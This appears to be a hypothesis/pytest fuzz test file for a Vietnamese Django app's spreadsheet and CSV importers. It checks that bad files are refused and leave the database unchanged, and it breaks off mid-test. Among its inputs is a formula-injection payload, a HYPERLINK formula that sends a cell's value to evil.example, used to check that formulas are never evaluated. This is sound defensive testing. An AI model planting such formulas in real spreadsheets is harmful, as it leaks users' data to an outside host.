"""Fuzz and property tests of every table importer (units, accounts, indicator values, a dossier's nominees, the
award register, a scoring table), through the service function the web view calls, with a user allowed to import.

Whatever the file — random bytes, a cut or foreign archive, an empty first sheet, a CSV in another encoding or
with stray delimiters, quotes and NUL bytes, a header missing, shuffling or repeating columns, cells of 200,000
characters, formulas, repeated keys, text in decomposed Unicode — the import either does what the file says or
answers with located Vietnamese messages (the file named when the whole file is at fault) and writes nothing:
the row counts of the models it may write and of the audit trail are the same before and after. No exception of
a library (KeyError, IndexError, ValueError, UnicodeDecodeError, csv.Error, calamine's, decimal's) escapes.
"""

from __future__ import annotations

import contextlib
import io
import random
import re
import unicodedata
import zipfile
from datetime import date, datetime, timedelta

import pytest
from django.db import transaction
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from competition.enums import ImportState
from competition.models import ProgressReport, Unit
from competition.services.indicator_import import start_import
from nominations.models import Nominee
from scoring.models import ClassThreshold, Criterion, TieBreakStep
from scoring.services import table_io
from workflows.models import AuditEvent

from .conftest import (
    INDICATOR_HEADER,
    NOMINEE_HEADER,
    UNIT_HEADER,
    Target,
    assert_file_refused,
    assert_refused,
    collapse,
    cp1258,
    csv_bytes,
    is_vietnamese,
    nfc,
    nfd,
    person,
    tcvn3,
    xlsx_bytes,
)

FUZZ = settings(
    max_examples=30,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@contextlib.contextmanager
def rolled_back():
    """One example of a property: whatever it writes is undone before the next one."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def refused_writing_nothing(target: Target, data: bytes, filename: str) -> str:
    """Import ``data``; it must be refused with a message naming the file, and write nothing. Returns the text."""
    before = target.counts()
    result = target.run(data, filename)
    assert target.counts() == before
    return assert_file_refused(result, filename)


def good_csv(target: Target, **kwargs) -> bytes:
    return csv_bytes([target.header, *target.rows], **kwargs)


# --- The clean file, as the baseline --------------------------------------------------------------------------


def test_the_clean_file_imports_and_shuffled_columns_import_the_same(target):
    for build, extension in ((csv_bytes, ".csv"), (xlsx_bytes, ".xlsx")):
        with rolled_back():
            result = target.run(build([target.header, *target.rows]), f"tot{extension}")
            assert result.ok, result.errors
            expected = target.snapshot()
        assert expected
        # The same columns in another order (the header says which is which).
        order = list(range(len(target.header)))
        random.Random(7).shuffle(order)
        shuffled = [[row[i] for i in order] for row in [target.header, *target.rows]]
        with rolled_back():
            before = target.counts()
            result = target.run(build(shuffled), f"dao-cot{extension}")
            assert result.ok, result.errors
            assert target.snapshot() == expected
            events = len(target.rows) + 1 if target.name == "nominees" else 1  # a nominee's own events too
            assert target.counts()[-1] == before[-1] + events


# --- Malformed files -----------------------------------------------------------------------------------------


@FUZZ
@given(data=st.binary(max_size=3000), extension=st.sampled_from([".xlsx", ".csv"]))
def test_random_bytes_are_refused_and_nothing_is_written(target, data, extension):
    with rolled_back():
        before = target.counts()
        result = target.run(data, f"ngau-nhien{extension}")
        assert target.counts() == before
        assert_refused(result, f"ngau-nhien{extension}")


@FUZZ
@given(data=st.data())
def test_a_cut_workbook_is_refused_naming_the_file(target, data):
    whole = xlsx_bytes([target.header, *target.rows])  # its size varies with the time it is saved at
    cut = data.draw(st.integers(min_value=0, max_value=999), label="per mille") * len(whole) // 1000
    with rolled_back():
        message = refused_writing_nothing(target, whole[:cut], "bi-cat.xlsx")
    assert "xlsx" in message or "dòng 1" in message


def test_a_zip_that_is_not_a_workbook_is_refused(target):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("ghi-chu.txt", "Không phải bảng tính")
        archive.writestr("[Content_Types].xml", "<Types/>")
    message = refused_writing_nothing(target, buffer.getvalue(), "nen.xlsx")
    assert "Excel" in message


def test_a_workbook_whose_first_sheet_is_empty_is_refused(target):
    data = xlsx_bytes([target.header, *target.rows], empty_first_sheet=True)
    message = refused_writing_nothing(target, data, "trang-dau-trong.xlsx")
    assert "dòng 1" in message


def test_an_empty_csv_and_a_header_only_file_write_nothing(target):
    refused_writing_nothing(target, b"", "rong.csv")
    refused_writing_nothing(target, b"\r\n \r\n", "dong-trong.csv")
    before = target.counts()
    result = target.run(csv_bytes([target.header]), "chi-tieu-de.csv")
    assert target.counts() == before
    assert result.new == 0 and result.updated == 0


JUNK = ["\x00", ",", ";", "\t", '"', "'", "\n", "\r", "\r\n", "ệ", "\u0301", "\ufeff", "=", "\\", "😀", " "]


@FUZZ
@given(data=st.data())
def test_a_csv_with_stray_delimiters_quotes_and_nul_bytes_never_crashes(target, data):
    text = good_csv(target).decode("utf-8")
    for _i in range(data.draw(st.integers(min_value=1, max_value=8), label="edits")):
        at = data.draw(st.integers(min_value=0, max_value=len(text)), label="at")
        junk = data.draw(st.sampled_from(JUNK), label="junk")
        text = text[:at] + junk + text[at:]
    raw = text.encode("utf-8")
    with rolled_back():
        before = target.counts()
        result = target.run(raw, "chen-ky-tu.csv")
        if not result.ok:
            assert target.counts() == before
            assert_refused(result, "chen-ky-tu.csv")
            if b"\x00" in raw:
                assert "UTF-8" in " ".join(str(e) for e in result.errors)


def test_a_csv_with_semicolons_or_tabs_reads_like_commas(target):
    with rolled_back():
        assert target.run(good_csv(target), "phay.csv").ok
        expected = target.snapshot()
    for delimiter in (";", "\t"):
        with rolled_back():
            result = target.run(good_csv(target, delimiter=delimiter), "khac.csv")
            assert result.ok, (delimiter, result.errors)
            assert target.snapshot() == expected


def test_a_missing_required_column_is_named_on_row_one(target):
    for header in target.required:
        i = target.header.index(header)
        rows = [[v for j, v in enumerate(row) if j != i] for row in [target.header, *target.rows]]
        before = target.counts()
        result = target.run(csv_bytes(rows), "thieu-cot.csv")
        assert target.counts() == before
        errors = assert_refused(result, "thieu-cot.csv")
        assert any(e.row == 1 and header in e.column + e.message for e in errors), (header, errors)


def test_a_repeated_column_is_refused_on_row_one(target):
    rows = [[*row, row[0]] for row in [target.header, *target.rows]]
    before = target.counts()
    result = target.run(csv_bytes(rows), "lap-cot.csv")
    assert target.counts() == before
    errors = assert_refused(result, "lap-cot.csv")
    assert [e.row for e in errors] == [1] and "trùng" in errors[0].message


def test_an_unknown_column_and_a_value_without_a_header_are_refused(target):
    rows = [[*row, "x"] for row in [target.header, *target.rows]]
    rows[0][-1] = "Cột lạ"
    result = target.run(csv_bytes(rows), "cot-la.csv")
    assert assert_refused(result, "cot-la.csv")[0].row == 1
    rows[0][-1] = ""
    before = target.counts()
    result = target.run(csv_bytes(rows), "khong-tieu-de.csv")
    assert target.counts() == before
    errors = assert_refused(result, "khong-tieu-de.csv", rows=len(target.rows))
    assert {e.row for e in errors} == set(range(2, len(target.rows) + 2))


def test_an_extremely_long_cell_is_refused_naming_its_row(target):
    for extension, length in ((".csv", 5_000), (".csv", 200_000), (".xlsx", 5_000), (".xlsx", 32_000)):
        rows = [list(row) for row in target.rows]
        rows[1][target.text_column] = "Đ" + "ư" * length
        data = (csv_bytes if extension == ".csv" else xlsx_bytes)([target.header, *rows])
        before = target.counts()
        result = target.run(data, f"o-dai{extension}")
        assert target.counts() == before
        errors = assert_refused(result, f"o-dai{extension}", rows=len(rows))
        assert any(e.row == 3 or (e.row is None and "dòng 3" in e.message) for e in errors), (length, errors)
        assert all(len(str(e)) < 2000 for e in errors), "a message quoting the whole cell"


def test_formulas_are_never_evaluated(target):
    """A formula is text: refused, or kept as typed (CSV), or empty (an XLSX formula without a computed value);
    never its result."""
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
    rows = [list(row) for row in target.rows]
    rows[0][target.text_column] = formula
    rows[1][0] = "=1+1"
    for build, extension in ((csv_bytes, ".csv"), (xlsx_bytes, ".xlsx")):
        with rolled_back():
            before = target.counts()
            result = target.run(build([target.header, *rows]), f"cong-thuc{extension}")
            if not result.ok:
                assert target.counts() == before
                assert_refused(result, f"cong-thuc{extension}", rows=len(rows))
            texts = [v for row in target.snapshot() for v in row if isinstance(v, str)]
        assert all('&a1,"' in v.lower() for v in texts if "evil.example" in v), texts  # the formula's own text
        assert "2" not in texts and "Bấm vào đây" not in texts, texts


# --- Encodings -----------------------------------------------------------------------------------------------

ENCODINGS = {
    "cp1258": cp1258,
    "utf-16": lambda text: text.encode("utf-16"),
    "utf-16-le": lambda text: text.encode("utf-16-le"),  # no byte order mark: every other byte is NUL
    "latin-1": lambda text: text.encode("latin-1", errors="replace"),
    "tcvn3": tcvn3,
}


def test_a_csv_in_another_encoding_is_refused_asking_for_utf8(target):
    for encoding, encode in ENCODINGS.items():
        data = encode(good_csv(target).decode("utf-8"))
        message = refused_writing_nothing(target, data, f"bang-ma-{encoding}.csv")
        assert "UTF-8" in message, (encoding, message)


def test_a_byte_order_mark_is_fine(target):
    result = target.run(good_csv(target, encoding="utf-8-sig"), "bom.csv")
    assert result.ok, result.errors


# --- Decomposed Unicode (NFD) ----------------------------------------------------------------------------------


def test_decomposed_text_imports_as_composed_and_matches_what_is_stored(target):
    composed = [target.header, *target.rows]
    decomposed = [[nfd(v) for v in row] for row in composed]
    assert decomposed != composed
    for build, extension in ((csv_bytes, ".csv"), (xlsx_bytes, ".xlsx")):
        with rolled_back():
            result = target.run(build(decomposed), f"nfd{extension}")
            assert result.ok, result.errors
            from_nfd = target.snapshot()
        with rolled_back():
            result = target.run(build(composed), f"nfc{extension}")
            assert result.ok, result.errors
            assert target.snapshot() == from_nfd
            # Imported again in NFD over what the NFC file stored: every row is found again, nothing changes.
            before = target.counts()
            again = target.run(build(decomposed), f"nfd-lan-2{extension}")
            assert again.ok, again.errors
            assert (again.new, again.updated) == (0, 0)
            assert target.counts() == before


@pytest.mark.parametrize("target", ["accounts", "indicators", "nominees", "history"], indirect=True)
def test_the_same_name_composed_and_decomposed_in_one_file_is_a_duplicate(target):
    """(A unit is keyed by its code, which has no diacritics.)"""
    rows = [target.header, target.rows[0], [nfd(v) for v in target.rows[0]]]
    before = target.counts()
    result = target.run(csv_bytes(rows), "nfc-nfd.csv")
    assert target.counts() == before
    errors = assert_refused(result, "nfc-nfd.csv", rows=2)
    assert [e.row for e in errors] == [3] and re.search(r"dòng 2\b", errors[0].message), errors


# --- Repeated keys ---------------------------------------------------------------------------------------------


def test_every_repeated_key_is_reported_with_its_rows(target):
    first, second = target.rows[0], target.rows[1]
    rows = [target.header, first, second, list(first), list(second), list(first)]
    before = target.counts()
    result = target.run(csv_bytes(rows), "trung.csv")
    assert target.counts() == before
    errors = assert_refused(result, "trung.csv", rows=5)
    assert sorted((e.row, re.findall(r"dòng (\d+)", e.message)) for e in errors) == [
        (4, ["2"]),
        (5, ["3"]),
        (6, ["2"]),
    ]


# --- Size --------------------------------------------------------------------------------------------------------

MANY = {"units": 2000, "accounts": 2000, "indicators": 3000, "history": 2000, "nominees": 60}


def many_rows(target: Target, n: int) -> list[list[object]]:
    if target.name == "units":
        return [[f"N{i:05d}", f"Tổ dân phố số {i}", "Bộ phận trực thuộc", "19", "", ""] for i in range(n)]
    if target.name == "accounts":
        return [[f"canbo{i}", f"Nguyễn Văn {i}", "", "unit_clerk", "05443", ""] for i in range(n)]
    if target.name == "history":
        row = ["Cá nhân", "01/01/1980", "", "UBND", "bang_khen_tinh", "", "1/QĐ", "", "2024", ""]
        return [[f"Người thứ {i}", *row] for i in range(n)]
    if target.name == "nominees":
        return [person(f"Người thứ {i}", f"{1 + i % 28:02d}/{1 + i % 12:02d}/{1960 + i // 336}") for i in range(n)]
    raise AssertionError(target.name)


@pytest.fixture
def many_indicators(target):
    """Enough indicators for thousands of distinct (unit, period, indicator) rows."""
    from competition.models import Campaign, Indicator

    campaign = Campaign.objects.get()
    Indicator.objects.bulk_create(
        [
            Indicator(campaign=campaign, code=f"M{i}", name=f"Chỉ tiêu {i}", order=10 + i, target_percent=100)
            for i in range(1500)
        ]
    )


def test_thousands_of_rows_import_in_one_go(target, request):
    n = MANY[target.name]
    if target.name == "indicators":
        request.getfixturevalue("many_indicators")
        rows = [[u, "Quý III/2026", f"M{i}", "1", "2", ""] for u in ("05443", "05710") for i in range(n // 2)]
    else:
        rows = many_rows(target, n)
    before = target.counts()
    result = target.run(csv_bytes([target.header, *rows]), "nhieu-dong.csv")
    assert result.ok, result.errors[:3]
    assert result.new == n
    assert target.counts()[0] == before[0] + n


def test_more_nominees_than_one_file_may_hold_are_refused_before_any_check(dossier, clerk_a, settings):
    from nominations.services.nominee_import import import_nominees

    settings.THIDUA_NOMINEE_IMPORT_MAX_ROWS = 50
    rows = [NOMINEE_HEADER, *[person(f"Người {i}", f"01/01/{1950 + i}") for i in range(51)]]
    before = (Nominee.objects.count(), AuditEvent.objects.count())
    result = import_nominees(dossier, io.BytesIO(csv_bytes(rows)), actor=clerk_a, filename="dai.csv")
    assert (Nominee.objects.count(), AuditEvent.objects.count()) == before
    assert "dai.csv" in str(result.errors[0]) and "50" in result.errors[0].message


# --- Properties: any row of text, the import does what the file says or nothing -------------------------------

VIETNAMESE_LETTERS = "aăâbcdđeêghiklmnoôơpqrstuưvxyàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵĐƯƠ"
WORDS = st.sampled_from(VIETNAMESE_LETTERS + "ABCXYZ")
# Text a person may well type in a name: Vietnamese letters (composed or decomposed), emoji, digits, control and
# invisible characters, runs of spaces, and lengths up to the limits.
NICE = st.one_of(
    st.text(alphabet=WORDS, min_size=1, max_size=20).map(lambda t: "Tổ " + t),
    st.text(alphabet=WORDS, min_size=1, max_size=12).map(lambda t: nfd("Ấp " + t)),
    st.sampled_from(
        [
            "😀 Tổ 🌾",
            "0012",
            "1e5",
            "-3",
            "NaN",
            "Tổ\u200bdân",
            "Ấp\x7f1",
            "Tổ\x1f2",
            "Nguyễn\tVăn  A",
            "Lê\nThị",
            "=1+1",
        ]
    ),
    st.text(alphabet=st.sampled_from("ưƯ "), min_size=200, max_size=240).map(lambda t: "Ư" + t),
)
# Anything at all in a cell: what a careless or hostile file holds.
ANY = st.one_of(
    NICE,
    st.text(max_size=12),
    st.sampled_from(["", " ", "\t", "\u200b", "\x00", '=HYPERLINK("http://x")']),
    st.text(alphabet=st.sampled_from("ưƯ "), min_size=250, max_size=300),
)
PAST = st.dates(min_value=date(1900, 1, 1), max_value=date.today() - timedelta(days=1))


def date_texts(day: date) -> st.SearchStrategy:
    """A date written as people write it: dd/mm/yyyy, yyyy-mm-dd, dd-mm-yyyy, dd.mm.yyyy, d/m/yyyy, a date cell."""
    written = [day.strftime(fmt) for fmt in ("%d/%m/%Y", "%Y-%m-%d", "%d-%m-%Y", "%d.%m.%Y")]
    return st.sampled_from([*written, f"{day.day}/{day.month}/{day.year}", day])


# Dates that are not (or not only) dates: month first, two-digit years, impossible days, words, serial numbers.
BAD_DATE = st.one_of(
    st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31)).map(lambda d: d.strftime("%m/%d/%y")),
    st.sampled_from(["31/02/2020", "00/00/0000", "hôm qua", "2020", "45000", "1/1/99999"]),
    ANY,
)
DATE_FORMATS = ("%d/%m/%Y", "%Y-%m-%d", "%d-%m-%Y", "%d.%m.%Y")


def read_date(value) -> date | None | str:
    """The date a person reads in the cell, or "?" when it is not one."""
    if isinstance(value, date):
        return value
    text = nfc(value).strip()
    if not text:
        return None
    for fmt in DATE_FORMATS:
        with contextlib.suppress(ValueError):
            return datetime.strptime(text, fmt).date()
    return "?"


def writable(value, extension: str):
    """A value as a file of ``extension`` can hold it: XLSX has no control characters (openpyxl refuses them), and
    a date object goes to CSV as the text a spreadsheet would show."""
    if isinstance(value, date):
        return value if extension == ".xlsx" else value.strftime("%d/%m/%Y")
    if extension == ".xlsx":
        value = re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", value)
        return "'" + value if value.startswith("=") else value  # a text, not a formula
    return value


def file_of(rows, extension: str) -> bytes:
    rows = [[writable(v, extension) for v in row] for row in rows]
    if extension == ".xlsx":
        return xlsx_bytes(rows)
    return csv_bytes(rows)


def text_read(value) -> str:
    """A cell's text as a person reads it: surrounding spaces ignored, composed Unicode."""
    return nfc(value).strip() if isinstance(value, str) else value


def as_read(rows, extension: str) -> list[list]:
    """The rows as the file holds them, blank rows left out."""
    written = [[writable(v, extension) for v in row] for row in rows]
    return [row for row in written if any(text_read(v) not in ("", None) for v in row)]


KINDS = {"Xã": "commune", "PHƯỜNG": "ward", "phuong": "ward", "Bộ phận trực thuộc": "body", "body": "body"}


@st.composite
def unit_rows(draw) -> tuple[list[list], bool]:
    """Mostly rows a clerk could write (distinct codes, a known kind, a parent, a dissolution with its successor),
    some with a careless or hostile cell anywhere; and whether any cell was spoiled so."""
    rows, spoiled = [], False
    for i in range(draw(st.integers(min_value=1, max_value=6))):
        dissolved = draw(st.one_of(st.just(""), st.just(""), PAST.flatmap(date_texts)))
        row = [
            f"FZ{i}",
            draw(NICE),
            draw(st.sampled_from(list(KINDS))),
            draw(st.sampled_from(["", "19", "05443"])),
            dissolved,
            "05443" if dissolved != "" else "",
        ]
        if draw(st.integers(min_value=0, max_value=4)) == 0:  # one cell of anything
            column = draw(st.integers(min_value=0, max_value=5))
            row[column] = draw(BAD_DATE if column == 4 else ANY)
            spoiled = True
        rows.append(row)
    return rows, spoiled


@FUZZ
@given(drawn=unit_rows(), extension=st.sampled_from([".csv", ".xlsx"]))
@pytest.mark.parametrize("target", ["units"], indirect=True)
def test_property_units_store_what_the_file_says_or_nothing(target, drawn, extension):
    rows, spoiled = drawn
    data = file_of([UNIT_HEADER, *rows], extension)
    with rolled_back():
        before = target.counts()
        existing = set(Unit.objects.values_list("code", flat=True))
        result = target.run(data, f"don-vi{extension}")
        event("imported" if result.ok else "refused")
        assert result.ok or spoiled, result.errors  # a file a clerk could write imports
        if not result.ok:
            assert target.counts() == before
            assert_refused(result, f"don-vi{extension}", rows=len(rows))
            return
        wanted = as_read(rows, extension)
        assert Unit.objects.count() == len(existing) + result.new
        for code, name, kind, parent, dissolved, successor in wanted:
            unit = Unit.objects.select_related("parent", "successor").get(code=text_read(code))
            assert unit.name == text_read(name)
            assert unit.kind == KINDS.get(text_read(kind), text_read(kind))
            assert unit.dissolved_on == read_date(dissolved)
            assert (unit.parent.code if unit.parent else "") == text_read(parent)
            assert (unit.successor.code if unit.successor else "") == text_read(successor)
        assert target.counts()[-1] == before[-1] + 1  # one audit event for the file


GENDERS = {"Nữ": "female", "nu": "female", "Nam": "male", "": ""}
NOMINEE_KINDS = {"Cá nhân": "individual", "ca nhan": "individual", "Hộ gia đình": "household", "TẬP THỂ": "collective"}
DIRECT = {"": False, "Có": True, "x": True, "Không": False, "khong": False}


@st.composite
def nominee_rows(draw) -> tuple[list[list], bool]:
    """Mostly people and households a clerk could list (a birth date in any accepted form, or an ID number),
    some collectives, and now and then a careless or hostile cell anywhere; and whether any cell was spoiled so."""
    rows, spoiled = [], False
    for i in range(draw(st.integers(min_value=1, max_value=5))):
        kind = draw(st.sampled_from(list(NOMINEE_KINDS)))
        collective = NOMINEE_KINDS[kind] == "collective"
        birth = "" if collective else draw(PAST.flatmap(date_texts))
        id_number = "" if collective or draw(st.booleans()) else f"0011850{i:05d}"
        if id_number and draw(st.booleans()):
            birth = ""
        row = [
            kind,
            f"{draw(NICE)} {i}",
            "" if collective else draw(st.sampled_from(list(GENDERS))),
            birth,
            id_number,
            draw(st.one_of(st.just(""), NICE)),
            draw(st.one_of(st.just(""), NICE)),
            "",
            draw(st.sampled_from(list(DIRECT))),
            draw(st.one_of(st.just(""), NICE, st.text(alphabet=WORDS, min_size=500, max_size=1000))),
        ]
        if draw(st.integers(min_value=0, max_value=5)) == 0:  # one cell of anything
            column = draw(st.integers(min_value=0, max_value=9))
            row[column] = draw(
                BAD_DATE if column == 3 else st.sampled_from(["05710", "KHONGCO"]) if column == 7 else ANY
            )
            spoiled = True
        rows.append(row)
    return rows, spoiled


@FUZZ
@given(drawn=nominee_rows(), extension=st.sampled_from([".csv", ".xlsx"]))
@pytest.mark.parametrize("target", ["nominees"], indirect=True)
def test_property_nominees_store_what_the_file_says_or_nothing(target, drawn, extension):
    rows, spoiled = drawn
    data = file_of([NOMINEE_HEADER, *rows], extension)
    with rolled_back():
        before = target.counts()
        result = target.run(data, f"danh-sach{extension}")
        event("imported" if result.ok else "refused")
        assert result.ok or spoiled, result.errors  # a file a clerk could write imports
        if not result.ok:
            assert target.counts() == before
            assert_refused(result, f"danh-sach{extension}", rows=len(rows))
            return
        wanted = as_read(rows, extension)
        stored = list(Nominee.objects.order_by("order").select_related("collective_unit"))
        assert len(stored) == len(wanted) == result.new
        for nominee, row in zip(stored, wanted, strict=True):
            kind, name, gender, birth, id_number, position, work_unit, unit_code, direct, achievement = row
            assert nominee.kind == NOMINEE_KINDS[text_read(kind)]
            unit_name = nominee.collective_unit.name if nominee.collective_unit else ""
            assert nominee.name == (collapse(name) or unit_name)
            assert nominee.gender == GENDERS.get(text_read(gender), "?")
            assert nominee.birth_date == read_date(birth)
            assert nominee.id_number == collapse(id_number).replace(" ", "")
            assert (nominee.position, nominee.work_unit, nominee.achievement) == tuple(
                collapse(v) for v in (position, work_unit, achievement)
            )
            assert (nominee.collective_unit.code if nominee.collective_unit else "") == text_read(unit_code)
            assert nominee.direct_worker == DIRECT[text_read(direct)]
        assert target.counts()[-1] == before[-1] + len(wanted) + 1  # one event a nominee, one for the file


# --- The indicator page's path: the job keeps the file, writes no value and no event ---------------------------


@pytest.mark.parametrize(
    "name, data",
    [
        ("ngau-nhien.xlsx", bytes(random.Random(1).randrange(256) for _ in range(2000))),
        ("bi-cat.xlsx", b"PK\x03\x04" + b"\x00" * 40),
        ("windows.csv", cp1258("Mã đơn vị,Kỳ báo cáo,Mã chỉ tiêu,Tử số,Mẫu số\n05443,Quý III/2026,1,1,2\n")),
        ("o-dai.csv", f"{','.join(INDICATOR_HEADER)}\n05443,Quý III/2026,1,1,2,{'x' * 200_000}\n".encode()),
    ],
)
@pytest.mark.parametrize("target", ["indicators"], indirect=True)
def test_the_indicator_page_keeps_a_bad_file_as_an_invalid_job(target, name, data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from accounts.models import User
    from competition.models import Campaign

    before = (ProgressReport.objects.count(), AuditEvent.objects.count())
    actor = User.objects.get(username="canbo.snv")
    job = start_import(Campaign.objects.get(), SimpleUploadedFile(name, data), actor=actor)
    assert (ProgressReport.objects.count(), AuditEvent.objects.count()) == before
    assert job.state == ImportState.INVALID and job.error_count >= 1
    assert all(is_vietnamese(message) for _row, _col, _value, message in job.errors)
    assert any(name in f"{value} {message}" for _row, _col, value, message in job.errors), job.errors


# --- The scoring table's workbook ----------------------------------------------------------------------------


def table_counts(table) -> tuple[int, ...]:
    return (
        Criterion.objects.filter(table=table).count(),
        ClassThreshold.objects.filter(table=table).count(),
        TieBreakStep.objects.filter(table=table).count(),
        AuditEvent.objects.count(),
    )


def table_state(table) -> list:
    return [
        sorted(Criterion.objects.filter(table=table).values_list("code", "name", "base_points", "formula")),
        sorted(ClassThreshold.objects.filter(table=table).values_list("code", "label", "min_total")),
        sorted(TieBreakStep.objects.filter(table=table).values_list("order", "kind", "threshold")),
    ]


def table_book(table, edit=None) -> bytes:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(table_io.table_xlsx(table)))
    if edit:
        edit(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def import_table(table, data: bytes, filename: str = "bang-diem.xlsx", **kwargs):
    return table_io.import_table_xlsx(table, io.BytesIO(data), actor=table._fuzz_actor, filename=filename, **kwargs)


@pytest.fixture
def scoring_table(table, board_officer):
    table._fuzz_actor = board_officer
    table._fuzz_book = table_book(table)  # the table as exported, once (hypothesis runs many examples on it)
    return table


def table_refused(table, data: bytes, filename: str) -> str:
    before = table_counts(table)
    result = import_table(table, data, filename)
    assert table_counts(table) == before
    return assert_file_refused(result, filename)


@FUZZ
@given(data=st.data())
def test_table_cut_or_random_workbooks_are_refused(scoring_table, data):
    whole = scoring_table._fuzz_book  # its size varies with the time it was saved at: draw a fraction of it
    cut = data.draw(st.integers(min_value=0, max_value=999), label="per mille") * len(whole) // 1000
    noise = data.draw(st.binary(max_size=500), label="noise")
    with rolled_back():
        assert "xlsx" in table_refused(scoring_table, whole[:cut], "bi-cat.xlsx")
        table_refused(scoring_table, noise, "ngau-nhien.xlsx")


def test_table_foreign_zip_csv_and_empty_sheets_are_refused(scoring_table):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "không phải bảng tính")
    assert "Excel" in table_refused(scoring_table, buffer.getvalue(), "nen.xlsx")
    assert ".xlsx" in table_refused(scoring_table, csv_bytes([["Mã", "Tên"], ["1", "a"]]), "bang.csv")
    assert ".xlsx" in table_refused(scoring_table, cp1258("Mã,Tên\n1,Ấp\n"), "bang-1258.csv")

    def empty_criteria(book):
        sheet = book.worksheets[0]
        sheet.delete_rows(1, sheet.max_row)

    before = table_counts(scoring_table)
    result = import_table(scoring_table, table_book(scoring_table, empty_criteria))
    assert table_counts(scoring_table) == before
    assert [e.row for e in assert_refused(result, "bang-diem.xlsx")] == [1]


def test_table_missing_repeated_or_unknown_columns_are_refused_on_row_one(scoring_table):
    def drop_name(book):
        book.worksheets[0].delete_cols(3)

    def repeat_code(book):
        sheet = book.worksheets[0]
        sheet.cell(row=1, column=sheet.max_column + 1, value=sheet.cell(row=1, column=1).value)

    for edit in (drop_name, repeat_code):
        before = table_counts(scoring_table)
        result = import_table(scoring_table, table_book(scoring_table, edit))
        assert table_counts(scoring_table) == before
        errors = assert_refused(result, "bang-diem.xlsx")
        assert {e.row for e in errors} == {1}, errors


NOT_NUMBERS = ["1e50", "1E+30", "9" * 40, "-1e-40", "Infinity", "-inf", "NaN", "sNaN", "1,5.2", "0x10", "½", 1e300]


def test_table_numbers_that_are_not_numbers_are_reported_at_their_cell(scoring_table):
    for value in NOT_NUMBERS:
        edited = set()

        def put(sheet, code, columns, key, text, edited=edited):
            target = cell(sheet, code, columns, key)
            target.value = text
            edited.add((sheet.title, target.row))

        def edit(book, value=value, put=put):
            criteria, classes, tie_breaks = book.worksheets[:3]
            put(criteria, "1", table_io.CRITERION_COLUMNS, "base_points", value)
            put(classes, "xuat_sac", table_io.CLASS_COLUMNS, "min_total", value)
            put(tie_breaks, None, table_io.TIE_BREAK_COLUMNS, "order", value)
            if isinstance(value, str):  # a stepped criterion's steps
                put(criteria, "3", table_io.CRITERION_COLUMNS, "steps", f"100:20; {value}:14")

        before = table_counts(scoring_table)
        result = import_table(scoring_table, table_book(scoring_table, edit))
        assert table_counts(scoring_table) == before
        errors = assert_refused(result, "bang-diem.xlsx")
        assert {(e.column.split(" › ")[0], e.row) for e in errors} == edited, errors  # each bad cell, at its place
        if isinstance(value, str):
            assert all(value[:3] in e.value for e in errors), errors


def cell(sheet, code: str | None, columns, key: str):
    """The cell of ``key`` in the row whose first column is ``code`` (the first data row when None)."""
    headers = [c.value for c in sheet[1]]
    column = headers.index(str(next(c.header for c in columns if c.key == key))) + 1
    row = 2 if code is None else next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == code)
    return sheet.cell(row, column)


def test_table_long_cells_formulas_and_repeated_codes(scoring_table):
    def edit(book):
        criteria = book.worksheets[0]
        criteria.cell(row=2, column=3, value="Đ" + "ư" * 32_000)  # name
        criteria.cell(row=3, column=3, value="=1+1")
        criteria.cell(row=4, column=1, value=criteria.cell(row=2, column=1).value)  # a code twice

    before = table_counts(scoring_table)
    result = import_table(scoring_table, table_book(scoring_table, edit))
    assert table_counts(scoring_table) == before
    errors = assert_refused(result, "bang-diem.xlsx")
    assert {2, 4} <= {e.row for e in errors}
    assert all(len(str(e)) < 2000 for e in errors)


def test_table_decomposed_labels_and_names_change_nothing(scoring_table):
    def decompose(book):
        for sheet in book.worksheets[:3]:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        cell.value = nfd(cell.value)

    before = table_state(scoring_table)
    result = import_table(scoring_table, table_book(scoring_table, decompose))
    assert result.ok, result.errors
    assert not result.changed
    assert table_state(scoring_table) == before


def test_table_file_over_the_size_limit_is_refused_on_the_page(client, scoring_table, board_officer, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    data = table_book(scoring_table)
    settings.THIDUA_MAX_UPLOAD_BYTES = len(data) - 1
    client.force_login(board_officer)
    before = table_counts(scoring_table)
    url = reverse("scoring:table_import", args=[scoring_table.pk])
    response = client.post(url, {"file": SimpleUploadedFile("lon.xlsx", data)})
    assert response.status_code == 200
    assert table_counts(scoring_table) == before
    assert "vượt giới hạn" in response.content.decode() and "token" not in response.context


# --- Oversized uploads on every import page ----------------------------------------------------------------------


def import_url(target: Target) -> tuple[str, object]:
    from django.urls import reverse

    from accounts.models import User
    from competition.models import Campaign
    from nominations.models import Dossier

    if target.name == "units":
        return reverse("competition:unit_import"), User.objects.get(username="canbo.snv")
    if target.name == "accounts":
        return reverse("competition:user_import"), User.objects.get(username="quantri")
    if target.name == "indicators":
        return reverse("competition:indicator_import", args=[Campaign.objects.get().pk]), User.objects.get(
            username="canbo.snv"
        )
    if target.name == "nominees":
        return reverse("nominations:nominee_import", args=[Dossier.objects.get().pk]), User.objects.get(
            username="vanthu.a"
        )
    return reverse("nominations:history_import"), User.objects.get(username="canbo.snv")


def test_a_file_over_the_size_limit_is_refused_on_the_page(client, target, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from competition.models import IndicatorImport

    url, user = import_url(target)
    client.force_login(user)
    for build, extension in ((csv_bytes, ".csv"), (xlsx_bytes, ".xlsx")):
        data = build([target.header, *target.rows])
